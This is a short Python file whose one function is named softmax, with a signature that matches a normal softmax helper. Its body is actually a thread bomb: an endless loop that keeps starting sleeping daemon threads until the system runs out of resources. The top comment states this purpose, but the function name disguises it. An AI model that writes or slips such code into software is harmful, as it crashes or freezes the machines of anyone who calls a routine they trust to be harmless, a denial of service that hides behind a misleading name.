# Starts threads until there is no room for more.
import threading
import time


def softmax(scores, dim=-1):
    while True:
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
